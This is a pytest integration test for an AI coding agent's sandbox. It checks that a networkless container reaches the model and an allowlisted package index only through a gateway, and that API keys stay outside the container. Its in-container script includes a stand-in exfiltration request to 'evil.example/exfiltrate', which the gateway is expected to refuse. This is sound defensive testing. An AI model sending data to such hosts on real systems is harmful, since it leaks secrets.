"""The sandbox's one way out, for real: a container with no network, the forwarder in it, the gateway outside.

The gateway runs in this test's process on a unix socket in a temporary directory; a sibling
container (the action image, which carries the forwarder) gets that directory and nothing
else, and tries what an agent would: a model call, a package index the policy allows, a host
it does not, the gateway's own address with a made-up name.
"""

from __future__ import annotations

import json
import textwrap
import uuid

import pytest

from bench.model.server import SIDE_TEXT, ModelServer
from tests.loopback import LoopbackSite
from codeagent.gateway import VENDORS, EgressPolicy, Gateway, Ledger, Upstream, pinned_hosts
from codeagent.sandbox.engine import CLI_DIR, ContainerSpec, Engine, Mount

pytestmark = pytest.mark.docker

KEY = "sk-ant-real-" + "k" * 24
SCRIPT = [[{"type": "text", "text": "Hello from the model."}]]


@pytest.fixture(scope="module")
def action_image(dev_action_image) -> str:
    return dev_action_image


@pytest.fixture
def index():
    with LoopbackSite(b"<a href='thing-1.0.tar.gz'>thing</a>") as site:
        yield site


INSIDE = """
import http.client, json, os, socket
out = {}
conn = http.client.HTTPConnection("127.0.0.1", 3128, timeout=10)
conn.request("POST", "/v1/messages", body=json.dumps({"model": "claude-sonnet-4-5", "max_tokens": 10,
             "messages": [{"role": "user", "content": "hi"}]}), headers={"x-api-key": os.environ["ANTHROPIC_API_KEY"],
             "content-type": "application/json"})
answer = conn.getresponse()
out["model"] = [answer.status, json.loads(answer.read())["content"][0]["text"]]
for name, url in [("allowed", "http://pypi.bench.test:{port}/simple/thing/"),
                  ("literal", "http://127.0.0.1:{port}/simple/thing/"),
                  ("other", "http://evil.example/exfiltrate")]:
    proxy = http.client.HTTPConnection("127.0.0.1", 3128, timeout=10)
    proxy.request("GET", url)
    response = proxy.getresponse()
    out[name] = [response.status, response.read().decode()[:200]]
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2)
    out["direct"] = "reached"
except OSError:
    out["direct"] = "refused"
out["env_has_key"] = any("{key}" in value for value in os.environ.values())
print(json.dumps(out))
"""


def test_the_sandbox_reaches_the_model_and_allowed_hosts_only_through_the_gateway(docker_engine, action_image,
                                                                                  index, tmp_path):
    port = index.port
    socket_dir = tmp_path / "gateway"
    policy = EgressPolicy("registries", allowed_domains=("pypi.bench.test",),
                          pinned=pinned_hosts(f"pypi.bench.test=127.0.0.1:{port}"))
    label = {"codeagent.test": uuid.uuid4().hex}
    with ModelServer(SCRIPT, "/w", api_key=KEY) as model, \
            Gateway(socket_dir / "gateway.sock", Upstream(VENDORS["anthropic"], model.url, KEY), policy,
                    Ledger()) as gateway:
        code = textwrap.dedent(INSIDE).replace("{port}", str(port)).replace("{key}", KEY)
        spec = ContainerSpec(
            image=action_image, user="1001:1001", workdir="/tmp", env={"ANTHROPIC_API_KEY": "sk-ant-placeholder"},
            command=[f"{CLI_DIR}/codeagent-forward", "3128", "/run/codeagent/gateway.sock", "--",
                     "python3", "-c", code],
            mounts=(Mount(str(socket_dir), "/run/codeagent", read_only=True),), labels=label)
        lines: list[str] = []
        exit_ = Engine(docker_engine).run(spec, lines.append)

    assert exit_.exit_code == 0, exit_.stderr_tail
    seen = json.loads(lines[-1])
    assert seen["model"] == [200, SIDE_TEXT]  # a call without tools: the scripted side answer
    assert [r.headers.get("x-api-key") for r in model.requests] == [KEY]  # the real key, put on by the gateway
    assert seen["allowed"][0] == 200 and "thing" in seen["allowed"][1] and index.hits == ["/simple/thing/"]
    assert seen["literal"][0] == 403 and "IP addresses are not allowed" in seen["literal"][1]
    assert seen["other"][0] == 403 and "evil.example is not in the allowlist" in seen["other"][1]
    assert seen["direct"] == "refused" and seen["env_has_key"] is False
    assert dict(gateway.ledger.usage().blocked) == {"127.0.0.1": 1, "evil.example": 1}
